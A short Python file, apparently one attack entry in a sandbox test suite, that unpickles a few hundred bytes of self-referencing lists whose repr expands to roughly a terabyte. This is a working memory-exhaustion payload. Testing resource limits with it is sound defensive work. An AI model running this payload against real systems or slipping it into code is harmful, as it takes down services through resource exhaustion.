"""Unpickles a few bytes that stand for a text of a terabyte."""

import pickle


def attack(context):
    # Lists of eight times the list before, by reference.
    packed = b"]p0\nS'x'\na" + b"".join(b"](%sep%d\n" % (b"g%d\n" % at * 8, at + 1) for at in range(13))
    return len(repr(pickle.loads(packed + b".")))
